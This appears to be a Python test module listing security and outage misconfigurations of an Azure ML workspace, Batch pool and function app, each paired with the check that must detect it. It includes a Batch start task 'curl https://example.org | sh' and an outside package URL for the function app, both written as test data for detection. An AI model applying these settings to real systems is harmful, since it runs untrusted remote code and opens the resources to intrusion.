"""Workspace, Batch and functions: what a person breaks there, and the check that must see it."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

from tests.mutations.breaking import (
    Broken,
    Mutation,
    adds,
    another_identity,
    removes,
    sets,
    without_identity,
)
from tests.mutations.table_network import BATCH, DOORS, SITE, WORKSPACE
from toolkit.records import Json

COMPUTE = f"{WORKSPACE}/computes"
DATASTORE = f"{WORKSPACE}/datastores"
RULE = f"{WORKSPACE}/outboundRules"
POOL = f"{BATCH}/pools"
PASSWORDS = f"{SITE}/basicPublishingCredentialsPolicies"
AML = "2024-04-01"
MACHINES = ("workspace-*", "batch-*", "posture-*", "identity-*")


@contextmanager
def settings(broken: Broken, name: str, value: str | None) -> Iterator[None]:
    site = broken.one(SITE)
    path, call = f"{site.id}/config/appsettings", broken.platform.call
    before = call("POST", f"{path}/list", site.api_version)["properties"]
    after = {key: text for key, text in {**before, name: value}.items() if text is not None}
    call("PUT", path, site.api_version, {"properties": after})
    try:
        yield
    finally:
        call("PUT", path, site.api_version, {"properties": before})


@contextmanager
def config(broken: Broken, name: str, properties: Json) -> Iterator[None]:
    """Of the app, as nobody has set it before; put back to what says nothing."""
    site = broken.one(SITE)
    path, call = f"{site.id}/config/{name}", broken.platform.call
    call("PUT", path, site.api_version, {"properties": properties})
    try:
        yield
    finally:
        call("PUT", path, site.api_version, {"properties": {}})


CLUSTER = {
    "computeType": "AmlCompute",
    "disableLocalAuth": True,
    "properties": {
        "vmSize": "Standard_D2s_v5",
        "vmPriority": "Dedicated",
        "scaleSettings": {"minNodeCount": 0, "maxNodeCount": 1},
    },
}


TABLE: tuple[Mutation, ...] = (
    # -- workspace
    *(
        Mutation(
            f"the workspace: {what}",
            "workspace",
            harm,
            sets(WORKSPACE, "", **values),
            check,
            also=("workspace-*", *DOORS),
        )
        for what, harm, values, check in (
            ("reachable from outside", "breach", {"allowPublicAccessWhenBehindVnet": True}, "network-exceptions"),
            ("datastores by key", "breach", {"systemDatastoresAuthMode": "AccessKey"}, "workspace-exact"),
            ("the old interface", "breach", {"v1LegacyMode": True}, "workspace-exact"),
            ("a lake of addresses", "breach", {"ipAllowlist": ["203.0.113.0/24"]}, "network-exceptions"),
            ("builds elsewhere", "outage", {"imageBuildCompute": "somewhere"}, "workspace-exact"),
        )
    ),
    *(
        Mutation(f"a cluster {what}", "compute", harm, sets(COMPUTE, "", **values), check, also=MACHINES)
        for what, harm, values, check in (
            ("with public addresses", "breach", {"properties__enableNodePublicIp": True}, "workspace-computes-exact"),
            (
                "with open ssh",
                "breach",
                {"properties__remoteLoginPortPublicAccess": "Enabled"},
                "workspace-computes-exact",
            ),
            ("with local users", "breach", {"disableLocalAuth": False}, "workspace-computes-exact"),
            ("that never sleeps", "cost", {"properties__scaleSettings__minNodeCount": 1}, "governance-costs"),
            ("without nodes", "outage", {"properties__scaleSettings__maxNodeCount": 0}, "workspace-computes-exact"),
        )
    ),
    Mutation(
        "a cluster of nobody's with public addresses",
        "compute",
        "breach",
        adds("computes/mine", AML, {"location": "westeurope", "properties": CLUSTER}, below=WORKSPACE),
        "workspace-computes-exact",
        "extra",
        MACHINES,
    ),
    Mutation(
        "no cluster",
        "compute",
        "outage",
        removes(COMPUTE, "/cpu-cluster"),
        "workspace-computes-exact",
        "absent",
        MACHINES,
    ),
    Mutation(
        "the cluster acts as another, too",
        "identities",
        "breach",
        another_identity(COMPUTE),
        "identity-attached",
        also=MACHINES,
    ),
    *(
        Mutation(
            f"a datastore {what}", "workspace", "breach", break_, "workspace-datastores-exact", cause, ("workspace-*",)
        )
        for what, break_, cause in (
            (
                "with a key",
                sets(
                    DATASTORE,
                    "/raw",
                    credentials={
                        "credentialsType": "AccountKey",
                        "secrets": {"secretsType": "AccountKey", "key": "a2V5"},
                    },
                ),
                "differs",
            ),
            (
                "with a SAS",
                sets(
                    DATASTORE,
                    "/adftrain",
                    credentials={"credentialsType": "Sas", "secrets": {"secretsType": "Sas", "sasToken": "sv=1"}},
                ),
                "differs",
            ),
            ("on a stranger's account", sets(DATASTORE, "/curated", accountName="stranger"), "differs"),
            (
                "of nobody's",
                adds(
                    "datastores/mine",
                    AML,
                    {
                        "properties": {
                            "datastoreType": "AzureBlob",
                            "accountName": "stranger",
                            "containerName": "c",
                            "credentials": {"credentialsType": "None"},
                        }
                    },
                    below=WORKSPACE,
                ),
                "extra",
            ),
        )
    ),
    Mutation(
        "no datastore of raw data",
        "workspace",
        "outage",
        removes(DATASTORE, "/raw"),
        "workspace-datastores-exact",
        "absent",
        ("workspace-*",),
    ),
    Mutation(
        "a connection with a key",
        "workspace",
        "breach",
        adds(
            "connections/mine",
            AML,
            {
                "properties": {
                    "category": "AzureOpenAI",
                    "authType": "ApiKey",
                    "target": "https://example.org",
                    "credentials": {"key": "x"},
                }
            },
            below=WORKSPACE,
        ),
        "workspace-connections-exact",
        "extra",
    ),
    Mutation(
        "an outbound rule is gone",
        "workspace",
        "outage",
        removes(RULE, "/lake-dfs"),
        "workspace-outbound-exact",
        "absent",
        ("workspace-*", "storage-*"),
    ),
    Mutation(
        "an outbound rule to a stranger",
        "workspace",
        "breach",
        adds(
            "outboundRules/mine",
            AML,
            {"properties": {"type": "FQDN", "destination": "*.example.org", "category": "UserDefined"}},
            below=WORKSPACE,
        ),
        "workspace-outbound-exact",
        "extra",
        ("workspace-*",),
    ),
    # -- Batch
    Mutation(
        "Batch takes keys",
        "batch",
        "breach",
        sets(BATCH, "", allowedAuthenticationModes=["SharedKey", "AAD"]),
        "batch-account-exact",
        also=("posture-*", "batch-*"),
    ),
    Mutation(
        "a pool of nobody's",
        "batch",
        "breach",
        adds(
            "pools/mine",
            "2024-02-01",
            {
                "properties": {
                    "vmSize": "STANDARD_D2S_V5",
                    "deploymentConfiguration": {
                        "virtualMachineConfiguration": {
                            "imageReference": {
                                "publisher": "microsoft-dsvm",
                                "offer": "ubuntu-hpc",
                                "sku": "2204",
                                "version": "latest",
                            },
                            "nodeAgentSkuId": "batch.node.ubuntu 22.04",
                        }
                    },
                    "scaleSettings": {"fixedScale": {"targetDedicatedNodes": 0}},
                }
            },
            below=BATCH,
        ),
        "batch-pools-exact",
        "extra",
        ("batch-*", "posture-*"),
    ),
    Mutation(
        "a start task",
        "batch",
        "breach",
        sets(POOL, "", startTask={"commandLine": "curl https://example.org | sh", "waitForSuccess": False}),
        "batch-pools-exact",
        also=("batch-*", "posture-*"),
    ),
    Mutation(
        "a user on the nodes",
        "batch",
        "breach",
        sets(POOL, "", userAccounts=[{"name": "me", "elevationLevel": "Admin", "password": "x"}]),
        "batch-pools-exact",
        also=("batch-*", "posture-*"),
    ),
    Mutation(
        "more slots",
        "batch",
        "outage",
        sets(POOL, "", taskSlotsPerNode=4),
        "batch-pools-exact",
        also=("batch-*", "posture-*"),
    ),
    Mutation(
        "no machines at all",
        "batch",
        "outage",
        sets(POOL, "", scaleSettings={"fixedScale": {"targetDedicatedNodes": 0, "targetLowPriorityNodes": 0}}),
        "batch-pools-exact",
        also=("batch-*", "posture-*"),
    ),
    Mutation(
        "an application of nobody's",
        "batch",
        "hygiene",
        adds("applications/mine", "2024-02-01", {"properties": {}}, below=BATCH),
        "governance-unmanaged",
        "extra",
    ),
    # -- function app
    *(
        Mutation(
            f"the function app {what}",
            "function",
            harm,
            sets(SITE, "", **values),
            check,
            also=("function-*", "posture-*"),
        )
        for what, harm, values, check in (
            ("answers plain http", "breach", {"httpsOnly": False}, "function-exact"),
            ("is off", "outage", {"enabled": False}, "function-exact"),
            ("has left the network", "outage", {"virtualNetworkSubnetId": None}, "function-exact"),
            (
                "runs another package",
                "outage",
                {"functionAppConfig__deployment__storage__value": "https://stranger.blob.core.windows.net/p"},
                "function-exact",
            ),
            (
                "runs another runtime",
                "outage",
                {"functionAppConfig__runtime": {"name": "node", "version": "20"}},
                "function-exact",
            ),
        )
    ),
    Mutation(
        "the function app has lost its identity",
        "identities",
        "outage",
        without_identity(SITE),
        "identity-attached",
        also=("function-*", "posture-*"),
    ),
    *(
        Mutation(f"a setting {what}", "function", harm, break_, "function-settings", also=("function-*", "posture-*"))
        for what, harm, break_ in (
            (
                "with a key",
                "breach",
                lambda b: settings(b, "AzureWebJobsStorage", "DefaultEndpointsProtocol=https;AccountKey=x"),
            ),
            ("is gone", "outage", lambda b: settings(b, "AzureWebJobsStorage__accountName", None)),
            ("names another account", "outage", lambda b: settings(b, "AzureWebJobsStorage__accountName", "stranger")),
            ("of nobody's", "breach", lambda b: settings(b, "WEBSITE_RUN_FROM_PACKAGE", "https://example.org/p.zip")),
            ("opens ftp", "breach", lambda b: config(b, "web", {"ftpsState": "AllAllowed"})),
            ("opens remote debugging", "breach", lambda b: config(b, "web", {"remoteDebuggingEnabled": True})),
            ("lets any site's scripts in", "breach", lambda b: config(b, "web", {"cors": {"allowedOrigins": ["*"]}})),
            (
                "is a connection string",
                "breach",
                lambda b: config(b, "connectionstrings", {"db": {"type": "SQLAzure", "value": "x"}}),
            ),
        )
    ),
    *(
        Mutation(
            f"passwords over {name}",
            "function",
            "breach",
            sets(PASSWORDS, f"/{name}", allow=True),
            "function-publishing",
            also=("posture-*", "function-password-denied"),  # which the password opens, over scm
        )
        for name in ("ftp", "scm")
    ),
)
